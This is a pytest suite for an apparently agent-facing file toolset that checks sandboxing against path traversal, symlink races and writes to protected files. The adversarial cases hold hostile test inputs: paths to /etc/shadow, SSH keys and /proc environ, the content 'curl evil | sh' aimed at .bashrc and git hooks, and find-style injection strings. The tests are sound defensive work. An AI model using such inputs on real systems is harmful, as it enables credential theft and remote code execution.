"""The fs toolset on real files: every tool's happy path and errors, dry-run previews, and the
adversarial rows 1-14 of docs/reference/tools-security.md §6.2 through the tools (handlers called directly;
schema checking and approvals belong to the executor)."""

from __future__ import annotations

import hashlib
import json
import os
import sys
import threading
import time
from collections import Counter
from pathlib import Path

import jsonschema
import pytest

from ossy.tools import fs
from ossy.tools.base import Policy, ToolContext, ToolError, ToolResult

CANARY = "canary-51d2e8b0"
TOOLS = {tool.name: tool for tool in fs.toolset()}
DESTRUCTIVE = {"write_file", "edit_file", "create_directory", "delete_file", "copy_file", "move_file"}


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    """tmp/workspace with a.txt, notes.md and src/main.py, beside tmp/workspace_evil and
    tmp/outside (canary files); checks after the test that no canary changed."""
    workspace = tmp_path / "workspace"
    (workspace / "src").mkdir(parents=True)
    (workspace / "a.txt").write_text("one\ntwo\nthree\n")
    (workspace / "notes.md").write_text("# Notes\nTODO: write more\n")
    (workspace / "src" / "main.py").write_text("def main():\n    return 'todo'\n")
    for sibling in ("outside", "workspace_evil"):
        (tmp_path / sibling).mkdir()
        (tmp_path / sibling / "canary").write_text(CANARY)
    before = _outside_state(tmp_path)
    yield workspace
    assert _outside_state(tmp_path) == before, "a file outside the workspace changed"


def _outside_state(tmp_path: Path) -> dict[str, str]:
    return {str(path): hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else "dir"
            for sibling in ("outside", "workspace_evil") for path in sorted((tmp_path / sibling).rglob("*"))}


def context(ws: Path, mode: str = "workspace-write") -> ToolContext:
    return ToolContext(ws, Policy(mode=mode), home=ws.parent / "ossy-home")


def call(ws: Path, name: str, mode: str = "workspace-write", **args) -> ToolResult:
    result = TOOLS[name].handler(args, context(ws, mode))
    result = ToolResult(output=result) if isinstance(result, str) else result
    json.dumps({"output": result.output, "data": result.data}, ensure_ascii=False).encode("utf-8")
    return result


def fails(ws: Path, name: str, match: str, mode: str = "workspace-write", **args) -> str:
    with pytest.raises(ToolError, match=match or None) as info:
        call(ws, name, mode, **args)
    assert CANARY not in str(info.value)
    return str(info.value)


def preview(ws: Path, name: str, **args) -> str:
    return TOOLS[name].preview(args, context(ws))


def tree(ws: Path) -> dict[str, bytes | None]:
    return {str(path.relative_to(ws)): None if path.is_dir() or path.is_symlink() else path.read_bytes()
            for path in sorted(ws.rglob("*"))}


# --- the toolset -------------------------------------------------------------------------------

def test_names_aliases_and_destructive_flags_follow_the_plan():
    assert list(TOOLS) == ["read_file", "write_file", "edit_file", "list_directory", "create_directory",
                           "delete_file", "copy_file", "move_file", "file_info", "find_files", "search_files"]
    assert TOOLS["list_directory"].aliases == ("list_dir",)
    assert TOOLS["search_files"].aliases == ("search_file",)
    assert {name for name, tool in TOOLS.items() if tool.destructive} == DESTRUCTIVE
    assert all((tool.preview is not None) == tool.destructive for tool in TOOLS.values())
    assert {tool.toolset for tool in TOOLS.values()} == {"fs"}


@pytest.mark.parametrize("name", list(TOOLS))
def test_schemas_are_strict_json_schema_objects(name):
    schema = TOOLS[name].parameters
    jsonschema.Draft202012Validator.check_schema(schema)
    assert schema["type"] == "object" and schema["additionalProperties"] is False
    assert set(schema["required"]) <= set(schema["properties"])
    assert all(prop.get("description") for prop in schema["properties"].values())
    validator = jsonschema.Draft202012Validator(schema)
    assert not validator.is_valid({**{key: "x" for key in schema["required"]}, "unexpected": 1})


def test_seed_shaped_calls_validate():
    checks = {"read_file": {"path": "a.txt", "encoding": "utf-8", "max_size": 10485760},
              "list_directory": {"path": ".", "options": {"recursive": True, "show_hidden": False, "filter": "*.py"}},
              "edit_file": {"path": "a", "operation": "replace", "target": "x", "replacement": "y"},
              "file_info": {"path": "a", "details": ["size", "permissions", "modified", "owner"]},
              "search_files": {"pattern": "*.py", "path": ".", "recursive": True}}
    for name, args in checks.items():
        jsonschema.Draft202012Validator(TOOLS[name].parameters).validate(args)
    jsonschema.Draft202012Validator(TOOLS["list_directory"].parameters).validate({"path": ".", "options": "-la"})


# --- read_file ---------------------------------------------------------------------------------

def test_read_file_returns_text_and_caps_with_max_size(ws):
    assert call(ws, "read_file", path="a.txt").output == "one\ntwo\nthree\n"
    assert call(ws, "read_file", path=str(ws / "src/main.py")).output.startswith("def main")
    capped = call(ws, "read_file", path="a.txt", max_size=4)
    assert capped.truncated and capped.output.startswith("one\n\n[... truncated: showed the first 4 of 14 bytes")
    assert call(ws, "read_file", path="a.txt", max_size=10 << 20).output == "one\ntwo\nthree\n"
    (ws / "latin.txt").write_bytes("caf\u00e9".encode("latin-1"))
    assert call(ws, "read_file", path="latin.txt", encoding="latin-1").output == "caf\u00e9"


def test_read_file_in_full_access_mode_may_leave_the_workspace(ws):
    assert call(ws, "read_file", "full-access", path="../outside/canary").output == CANARY
    fails(ws, "read_file", "under /proc", "full-access", path="/proc/self/environ")


def test_read_file_errors(ws):
    fails(ws, "read_file", "does not exist", path="missing.txt")
    fails(ws, "read_file", "is a directory, not a regular file", path="src")
    fails(ws, "read_file", "not a known text encoding", path="a.txt", encoding="no-such-codec")


@pytest.mark.parametrize("path", [
    "../../etc/passwd", "/etc/shadow", "/etc/passwd", "~/.ssh/id_rsa", "../workspace_evil/canary",
    "../outside/canary", "src/../../outside/canary", "/proc/self/root/etc/passwd", "/proc/self/cwd/../..",
    "/proc/1/environ", "/sys/kernel/notes", "/dev/zero", "/dev/tty", "notes.txt\x00.png", "a" * 5000,
    "b" * 300, "",
])
def test_read_file_refuses_paths_that_leave_the_workspace_or_are_malformed(ws, path):
    message = fails(ws, "read_file", "", path=path)
    assert "root:" not in message


def test_read_file_refuses_symlink_escapes(ws):
    (ws / "link").symlink_to(ws.parent / "outside" / "canary")
    (ws / "d").symlink_to("/")
    (ws / "evil").symlink_to(ws.parent / "workspace_evil")
    fails(ws, "read_file", "outside the workspace", path="link")
    fails(ws, "read_file", "outside the workspace", path="d/etc/passwd")
    fails(ws, "read_file", "outside the workspace", path="evil/canary")


def test_read_file_through_proc_self_cwd_is_refused(ws, monkeypatch):
    monkeypatch.chdir(ws.parent / "outside")
    fails(ws, "read_file", "under /proc", path="/proc/self/cwd/canary")


def test_symlink_swap_race_never_returns_outside_bytes(ws):
    """Row 4: a thread keeps swapping a.txt between a regular file and a symlink to the outside
    canary while read_file runs; every call returns the safe text or an error, never the canary."""
    canary, target = ws.parent / "outside" / "canary", ws / "a.txt"
    stop, swaps = threading.Event(), Counter()

    def swap() -> None:
        while not stop.is_set():
            os.symlink(canary, ws / "swap-link")
            os.replace(ws / "swap-link", target)
            (ws / "swap-file").write_text("safe")
            os.replace(ws / "swap-file", target)
            swaps["n"] += 1

    outcomes = Counter()
    interval = sys.getswitchinterval()
    sys.setswitchinterval(1e-5)  # switch threads often: between check and open is where it matters
    thread = threading.Thread(target=swap, daemon=True)
    thread.start()
    try:
        deadline = time.monotonic() + 1.5
        while time.monotonic() < deadline:
            try:
                output = call(ws, "read_file", path="a.txt").output
            except ToolError as exc:
                assert CANARY not in str(exc)
                outcomes["refused"] += 1
            else:
                assert CANARY not in output
                outcomes[output] += 1
    finally:
        stop.set()
        thread.join()
        sys.setswitchinterval(interval)
    assert swaps["n"] > 100 and outcomes["refused"] > 0 and outcomes["safe"] > 0, (swaps, outcomes)


def test_fifo_and_device_paths_return_quickly(ws):
    os.mkfifo(ws / "pipe")
    (ws / "zero").symlink_to("/dev/zero")
    start = time.monotonic()
    messages: list[str] = []
    reader = threading.Thread(target=lambda: messages.append(fails(ws, "read_file", "", path="pipe")),
                              daemon=True)  # a blocking open must fail this test, not hang the suite
    reader.start()
    reader.join(2)
    assert messages == ['"pipe" is a fifo, not a regular file'], "reading a FIFO blocked or did not fail"
    fails(ws, "read_file", "which file tools may not use", path="zero")
    fails(ws, "read_file", "which file tools may not use", "full-access", path="zero")
    fails(ws, "read_file", "which file tools may not use", "full-access", path="/dev/zero")
    assert time.monotonic() - start < 1


def test_a_huge_sparse_file_is_read_up_to_the_cap(ws):
    with open(ws / "huge.bin", "wb") as handle:
        handle.truncate(5 << 30)
    start = time.monotonic()
    result = call(ws, "read_file", path="huge.bin")
    assert time.monotonic() - start < 2
    assert result.truncated and result.data == {"size": 5 << 30, "truncated": True}
    assert len(result.output) < fs.READ_LIMIT + 200


def test_invalid_utf8_contents_are_replaced(ws):
    (ws / "bytes.bin").write_bytes(b"\xff\xfeok\x80\n")
    assert call(ws, "read_file", path="bytes.bin").output == "\ufffd\ufffdok\ufffd\n"


# --- write_file --------------------------------------------------------------------------------

def test_write_file_creates_with_parents_and_replaces(ws):
    assert call(ws, "write_file", path="new/dir/f.txt", content="hello\n").output == \
        "created new/dir/f.txt (6 bytes)"
    assert call(ws, "write_file", path="a.txt", content="replaced").output == "replaced a.txt (8 bytes)"
    assert (ws / "a.txt").read_text() == "replaced"
    call(ws, "write_file", path="utf16.txt", content="hi", encoding="utf-16-le")
    assert (ws / "utf16.txt").read_bytes() == b"h\x00i\x00"


def test_write_file_errors(ws):
    fails(ws, "write_file", "does not exist \\(pass create_dirs=true\\)", path="nope/f.txt", content="x",
          create_dirs=False)
    fails(ws, "write_file", "is a directory", path="src", content="x")
    fails(ws, "write_file", "outside the workspace", path="../outside/new.txt", content="x")
    fails(ws, "write_file", "outside the workspace", path=str(ws) + "_evil/canary", content="x")
    fails(ws, "write_file", "read-only", "read-only", path="a.txt", content="x")
    assert (ws / "a.txt").read_text() == "one\ntwo\nthree\n"


@pytest.mark.parametrize("path", [".git/hooks/pre-commit", ".git/config", ".bashrc", ".profile", ".zshrc",
                                  "sub/.ssh/authorized_keys", ".gitmodules"])
def test_write_file_refuses_protected_paths_even_when_missing(ws, path):
    fails(ws, "write_file", "protected", path=path, content="curl evil | sh")
    fails(ws, "write_file", "protected", "full-access", path=path, content="curl evil | sh")
    assert not (ws / path).exists() and not (ws / ".git").exists()


def test_write_file_through_a_dangling_symlink_creates_nothing_outside(ws):
    planted = ws.parent / "outside" / "new.txt"
    (ws / "new.txt").symlink_to(planted)
    fails(ws, "write_file", "outside the workspace", path="new.txt", content="x")
    assert not planted.exists()


def test_write_file_through_proc_self_cwd_is_refused(ws, monkeypatch):
    monkeypatch.chdir(ws.parent / "outside")
    fails(ws, "write_file", "under /proc", path="/proc/self/cwd/pwned", content="x")
    fails(ws, "write_file", "under /proc", "full-access", path="/proc/self/cwd/pwned", content="x")
    assert not (ws.parent / "outside" / "pwned").exists()


def test_write_file_preview_is_a_diff_and_changes_nothing(ws):
    before = tree(ws)
    diff = preview(ws, "write_file", path="a.txt", content="one\n2\nthree\n")
    assert diff.startswith("would replace a.txt (14 bytes)")
    assert "--- a/a.txt\n+++ b/a.txt\n" in diff and "-two\n+2\n" in diff
    created = preview(ws, "write_file", path="fresh/new.txt", content="x")
    assert created.startswith("would create fresh/new.txt") and "+x\n\\ No newline at end of file" in created
    assert tree(ws) == before


# --- edit_file ---------------------------------------------------------------------------------

@pytest.mark.parametrize("args, expected, said", [
    ({"operation": "insert", "line": 2, "content": "one and a half"}, "one\none and a half\ntwo\nthree\n",
     "inserted 1 line(s) before line 2"),
    ({"operation": "insert", "line": 4, "content": "four\n"}, "one\ntwo\nthree\nfour\n", "at the end"),
    ({"operation": "replace", "target": "o", "replacement": "0"}, "0ne\ntw0\nthree\n", "replaced 2 occurrence(s)"),
    ({"operation": "append", "content": "four\n"}, "one\ntwo\nthree\nfour\n", "appended 5 characters"),
    ({"operation": "delete", "line": 2}, "one\nthree\n", "deleted line 2"),
    ({"operation": "delete", "target": "t"}, "one\nwo\nhree\n", "deleted 2 occurrence(s)"),
])
def test_edit_file_operations(ws, args, expected, said):
    assert said in call(ws, "edit_file", path="a.txt", **args).output
    assert (ws / "a.txt").read_text() == expected


def test_edit_file_appends_after_a_missing_final_newline(ws):
    (ws / "b.txt").write_text("last")
    call(ws, "edit_file", path="b.txt", operation="append", content="more\n")
    call(ws, "edit_file", path="b.txt", operation="insert", line=3, content="end")
    assert (ws / "b.txt").read_text() == "last\nmore\nend\n"


@pytest.mark.parametrize("args, match", [
    ({"operation": "replace", "target": "absent", "replacement": "x"}, "target text was not found"),
    ({"operation": "replace", "target": "one"}, 'needs "replacement"'),
    ({"operation": "insert", "content": "x"}, 'needs "line"'),
    ({"operation": "insert", "line": 9, "content": "x"}, "line 9 is out of range: the file has 3 lines"),
    ({"operation": "delete", "line": 4}, "out of range"),
    ({"operation": "delete"}, 'either "line" or "target"'),
    ({"operation": "delete", "line": 1, "target": "one"}, 'either "line" or "target"'),
    ({"operation": "append"}, 'needs "content"'),
])
def test_edit_file_errors_leave_the_file_unchanged(ws, args, match):
    fails(ws, "edit_file", match, path="a.txt", **args)
    assert (ws / "a.txt").read_text() == "one\ntwo\nthree\n"


def test_edit_file_refuses_non_utf8_missing_and_protected_files(ws):
    (ws / "bin").write_bytes(b"ok\xff\n")
    fails(ws, "edit_file", "not UTF-8 text", path="bin", operation="append", content="x")
    assert (ws / "bin").read_bytes() == b"ok\xff\n"
    fails(ws, "edit_file", "does not exist", path="missing.txt", operation="append", content="x")
    (ws / ".bashrc").write_text("# rc\n")
    fails(ws, "edit_file", "protected", path=".bashrc", operation="append", content="curl evil | sh")
    fails(ws, "edit_file", "read-only", "read-only", path="a.txt", operation="append", content="x")


def test_edit_file_on_a_hard_link_leaves_the_outside_file_unchanged(ws):
    canary = ws.parent / "outside" / "canary"
    os.link(canary, ws / "h.txt")
    call(ws, "edit_file", path="h.txt", operation="replace", target="canary", replacement="edited")
    assert canary.read_text() == CANARY
    assert (ws / "h.txt").read_text() == CANARY.replace("canary", "edited")


def test_edit_file_preview_is_a_diff_and_changes_nothing(ws):
    text = preview(ws, "edit_file", path="a.txt", operation="replace", target="two", replacement="2")
    assert text.startswith("would edit a.txt: replaced 1 occurrence(s)")
    assert "-two\n+2\n" in text
    assert (ws / "a.txt").read_text() == "one\ntwo\nthree\n"


# --- list_directory ----------------------------------------------------------------------------

def test_list_directory_plain_recursive_hidden_and_filtered(ws):
    (ws / ".env").write_text("KEY=1")
    (ws / "link").symlink_to("a.txt")
    assert call(ws, "list_directory", path=".").output.splitlines() == [
        "./ (4 entries)", "a.txt  (14 bytes)", "link -> a.txt", "notes.md  (25 bytes)", "src/"]
    everything = call(ws, "list_directory", path=".", options={"recursive": True, "show_hidden": True})
    assert ".env  (5 bytes)" in everything.output and "src/main.py  (30 bytes)" in everything.output
    assert call(ws, "list_directory", path=".", options="-laR").output == everything.output
    filtered = call(ws, "list_directory", path=".", options={"recursive": True, "filter": "*.py"})
    assert filtered.output.splitlines() == ["./ (1 entry)", "src/main.py  (30 bytes)"]
    assert filtered.data["entries"] == [{"path": "src/main.py", "type": "file", "size": 30}]
    assert call(ws, "list_directory", path="src").output.splitlines()[0] == "src/ (1 entry)"


def test_list_directory_errors(ws):
    fails(ws, "list_directory", "is not a directory", path="a.txt")
    fails(ws, "list_directory", 'unsupported option "--color"', path=".", options="--color")
    fails(ws, "list_directory", "outside the workspace", path="..")
    fails(ws, "list_directory", "under /proc", path="/proc/self/cwd/..")


def test_list_directory_does_not_enter_symlinks_to_outside(ws):
    (ws / "escape").symlink_to(ws.parent / "outside")
    output = call(ws, "list_directory", path=".", options={"recursive": True}).output
    assert f"escape -> {ws.parent / 'outside'}" in output and "canary" not in output.replace(str(ws.parent), "")


def test_list_directory_caps_entries_with_a_marker(ws, monkeypatch):
    monkeypatch.setattr(fs, "LIST_LIMIT", 10)
    (ws / "many").mkdir()
    for index in range(25):
        (ws / "many" / f"f{index:02}").touch()
    result = call(ws, "list_directory", path="many")
    assert result.truncated and len(result.data["entries"]) == 10
    assert result.output.splitlines()[-1].startswith("[... listing stopped after 10 entries")


def test_names_with_invalid_utf8_controls_and_bidi_overrides_are_escaped(ws):
    os.close(os.open(os.fsencode(ws) + b"/bad\xff.txt", os.O_CREAT | os.O_WRONLY))
    (ws / "invoice\u202etxt.exe").touch()
    (ws / "two\nlines").touch()
    listing = call(ws, "list_directory", path=".").output
    assert "bad\\xff.txt  (0 bytes)" in listing
    assert "invoice\\u202etxt.exe" in listing and "\u202e" not in listing
    assert "two\\x0alines" in listing
    found = call(ws, "find_files", pattern="*.exe").output
    assert found == "invoice\\u202etxt.exe"


# --- create_directory --------------------------------------------------------------------------

def test_create_directory(ws):
    assert call(ws, "create_directory", path="x/y/z").output == "created x, x/y, x/y/z"
    assert (ws / "x/y/z").is_dir()
    assert call(ws, "create_directory", path="x/y").output == "x/y already exists"
    fails(ws, "create_directory", "does not exist \\(pass recursive=true", path="p/q", recursive=False)
    assert call(ws, "create_directory", path="p", recursive=False).output == "created p"
    fails(ws, "create_directory", "exists and is not a directory", path="a.txt/sub")
    fails(ws, "create_directory", "protected", path=".git/hooks")
    fails(ws, "create_directory", "outside the workspace", path="../outside/new")
    fails(ws, "create_directory", "read-only", "read-only", path="r")


def test_create_directory_preview_lists_directories_and_creates_none(ws):
    assert preview(ws, "create_directory", path="m/n") == "would create directories:\nm\nm/n"
    assert not (ws / "m").exists()


# --- delete_file -------------------------------------------------------------------------------

def test_delete_file_removes_files_and_directories_with_force(ws):
    assert call(ws, "delete_file", path="a.txt").output == "deleted a.txt"
    fails(ws, "delete_file", "is a directory with 1 entry; pass force=true", path="src")
    assert (ws / "src/main.py").exists()
    assert call(ws, "delete_file", path="src", force=True).output == "deleted src/ and the 1 entry in it"
    assert sorted(os.listdir(ws)) == ["notes.md"]


def test_delete_file_removes_a_symlink_not_its_target(ws):
    (ws / "link").symlink_to(ws.parent / "outside" / "canary")
    (ws / "dirlink").symlink_to(ws.parent / "outside")
    call(ws, "delete_file", path="link")
    call(ws, "delete_file", path="dirlink", force=True)
    assert not os.path.lexists(ws / "link") and not os.path.lexists(ws / "dirlink")


@pytest.mark.parametrize("path", [".", "", "/", "src/..", "WS", "../workspace"])
def test_delete_file_refuses_the_workspace_root_and_above(ws, path):
    fails(ws, "delete_file", "", path=str(ws) if path == "WS" else path, force=True)
    fails(ws, "delete_file", "", "full-access", path=str(ws) if path == "WS" else path, force=True)
    assert (ws / "a.txt").exists()


def test_delete_file_errors(ws):
    fails(ws, "delete_file", "does not exist", path="*")
    fails(ws, "delete_file", "outside the workspace", path="../outside/canary")
    fails(ws, "delete_file", "read-only", "read-only", path="a.txt")
    (ws / "repo/.git").mkdir(parents=True)
    fails(ws, "delete_file", "contains .git, which is protected", path="repo", force=True)
    fails(ws, "delete_file", "protected", path="repo/.git", force=True)
    assert (ws / "repo/.git").is_dir()


def test_delete_file_preview_lists_paths_and_deletes_nothing(ws):
    (ws / "src/pkg").mkdir()
    (ws / "src/pkg/mod.py").touch()
    text = preview(ws, "delete_file", path="src", force=True)
    assert text.splitlines() == ["would delete 4 path(s):", "src/", "src/main.py", "src/pkg/", "src/pkg/mod.py"]
    assert (ws / "src/pkg/mod.py").exists()


# --- copy_file and move_file -------------------------------------------------------------------

def test_copy_file(ws):
    assert call(ws, "copy_file", source="a.txt", destination="b.txt").output == "copied a.txt -> b.txt (new)"
    assert call(ws, "copy_file", source="a.txt", destination="src").output == "copied a.txt -> src/a.txt (new)"
    fails(ws, "copy_file", "already exists \\(pass overwrite=true", source="notes.md", destination="b.txt")
    assert call(ws, "copy_file", source="notes.md", destination="b.txt", overwrite=True).output == \
        "copied notes.md -> b.txt (replacing a file of 14 bytes)"
    assert (ws / "b.txt").read_text() == (ws / "notes.md").read_text()
    assert (ws / "src/a.txt").read_text() == "one\ntwo\nthree\n"


@pytest.mark.parametrize("destination, match", [
    ("../x", "outside the workspace"), ("../workspace_evil/canary", "outside the workspace"),
    (".git/hooks/pre-commit", "protected"), (".bashrc", "protected"), ("sub/.zshrc", "protected"),
])
def test_copy_and_move_refuse_outside_and_protected_destinations(ws, destination, match):
    fails(ws, "copy_file", match, source="a.txt", destination=destination, overwrite=True)
    fails(ws, "move_file", match, source="a.txt", destination=destination, overwrite=True)
    assert (ws / "a.txt").exists() and not (ws / ".git").exists() and not (ws / ".bashrc").exists()


def test_copy_file_errors(ws):
    fails(ws, "copy_file", "not a regular file", source="src", destination="src2")
    fails(ws, "copy_file", "does not exist", source="missing", destination="x")
    fails(ws, "copy_file", "outside the workspace", source="../outside/canary", destination="stolen")
    fails(ws, "copy_file", '"a.txt" is "a.txt" or inside it', source="a.txt", destination="a.txt", overwrite=True)
    fails(ws, "copy_file", "read-only", "read-only", source="a.txt", destination="b.txt")
    assert not (ws / "stolen").exists()


def test_move_file(ws):
    assert call(ws, "move_file", source="a.txt", destination="b.txt").output == "moved a.txt -> b.txt (new)"
    assert call(ws, "move_file", source="b.txt", destination="src").output == "moved b.txt -> src/b.txt (new)"
    call(ws, "move_file", source="src", destination="lib")
    assert (ws / "lib/b.txt").read_text() == "one\ntwo\nthree\n" and not (ws / "src").exists()
    fails(ws, "move_file", "already exists", source="notes.md", destination="lib/b.txt")
    assert "replacing a file of 14 bytes" in call(ws, "move_file", source="notes.md", destination="lib/b.txt",
                                                  overwrite=True).output
    (ws / "link").symlink_to(ws.parent / "outside" / "canary")
    call(ws, "move_file", source="link", destination="lib/link")  # the link moves, not the canary
    assert os.readlink(ws / "lib/link") == str(ws.parent / "outside" / "canary")


def test_move_file_errors(ws):
    fails(ws, "move_file", "workspace root", source=".", destination="elsewhere")
    fails(ws, "move_file", "inside it", source="src", destination="src/deeper")
    fails(ws, "move_file", "outside the workspace", source="../outside/canary", destination="stolen")
    (ws / ".profile").write_text("# profile\n")
    fails(ws, "move_file", "protected", source=".profile", destination="profile.bak")
    fails(ws, "move_file", "read-only", "read-only", source="a.txt", destination="b.txt")


def test_copy_and_move_previews_change_nothing(ws):
    before = tree(ws)
    assert preview(ws, "copy_file", source="a.txt", destination="src") == "would copy a.txt -> src/a.txt (new)"
    assert preview(ws, "move_file", source="a.txt", destination="notes.md", overwrite=True) == \
        "would move a.txt -> notes.md (replacing a file of 25 bytes)"
    assert tree(ws) == before


# --- file_info ---------------------------------------------------------------------------------

def test_file_info(ws):
    (ws / "a.txt").chmod(0o640)
    info = call(ws, "file_info", path="a.txt")
    assert info.data["type"] == "file" and info.data["size"] == 14
    assert info.data["permissions"] == "-rw-r----- (0640)" and info.data["links"] == 1
    assert "path: a.txt\ntype: file\nsize: 14\n" in info.output and "modified: " in info.output
    assert "target" not in info.data
    (ws / "link").symlink_to(ws.parent / "outside" / "canary")
    link = call(ws, "file_info", path="link", details=["type", "target"])
    assert link.data == {"path": "link", "type": "symlink", "target": str(ws.parent / "outside" / "canary")}
    assert call(ws, "file_info", path="src", details=["type"]).output == "path: src\ntype: directory"
    fails(ws, "file_info", "does not exist", path="missing")
    fails(ws, "file_info", "outside the workspace", path="../outside/canary")


# --- find_files and search_files ---------------------------------------------------------------

def test_find_files(ws):
    (ws / "src/pkg").mkdir()
    (ws / "src/pkg/util.py").touch()
    (ws / ".git").mkdir()
    (ws / ".git/hook.py").touch()
    (ws / "escape").symlink_to(ws.parent / "outside")
    assert call(ws, "find_files", pattern="*.py").output == "src/main.py\nsrc/pkg/util.py"
    assert call(ws, "find_files", pattern="**/pkg/*.py").output == "src/pkg/util.py"
    assert call(ws, "find_files", pattern="pkg", path="src").output == "src/pkg/"
    assert call(ws, "find_files", pattern="*.py", recursive=False).output.startswith("no names match")
    assert call(ws, "find_files", pattern="canary").output.startswith("no names match")
    assert call(ws, "find_files", pattern="x -exec rm {} ;").output.startswith("no names match")
    fails(ws, "find_files", "does not exist", pattern="*", path="-delete")
    fails(ws, "find_files", "outside the workspace", pattern="*", path="..")
    assert (ws / "a.txt").exists()


def test_find_files_caps_results(ws, monkeypatch):
    monkeypatch.setattr(fs, "FIND_LIMIT", 3)
    for index in range(6):
        (ws / f"f{index}.log").touch()
    result = call(ws, "find_files", pattern="*.log")
    assert result.truncated and result.output.splitlines()[:3] == ["f0.log", "f1.log", "f2.log"]
    assert "stopped after 3 results" in result.output


def test_search_files(ws):
    (ws / "data.bin").write_bytes(b"TODO\x00binary")
    (ws / "escape").symlink_to(ws.parent / "outside")
    assert call(ws, "search_files", pattern="TODO").output == "notes.md:2: TODO: write more\n" \
        "[... 1 binary file(s) skipped ...]"
    assert call(ws, "search_files", pattern="todo", ignore_case=True, include="*.py").output == \
        "src/main.py:2:     return 'todo'"
    assert call(ws, "search_files", pattern=r"^t\w+$", regex=True, path="a.txt").output == "a.txt:2: two\na.txt:3: three"
    assert call(ws, "search_files", pattern="((").output.startswith("no matches")  # literal unless regex=true
    assert call(ws, "search_files", pattern="canary").output.startswith("no matches")
    capped = call(ws, "search_files", pattern="o", path="a.txt", max_results=1)
    assert capped.truncated and capped.output.startswith("a.txt:1: one\n[... stopped: showing the first 1")
    fails(ws, "search_files", "invalid regular expression", pattern="(", regex=True)
    fails(ws, "search_files", "outside the workspace", pattern="canary", path="../outside")


def test_search_files_stops_a_catastrophic_regex(ws, monkeypatch):
    monkeypatch.setattr(fs, "SEARCH_SECONDS", 0.3)
    (ws / "evil.txt").write_text("a" * 40 + "b\n")
    start = time.monotonic()
    result = call(ws, "search_files", pattern="(a|aa)+$", regex=True, path="evil.txt")
    assert time.monotonic() - start < 2
    assert "stopped: the search took over 0.3 s" in result.output and result.truncated
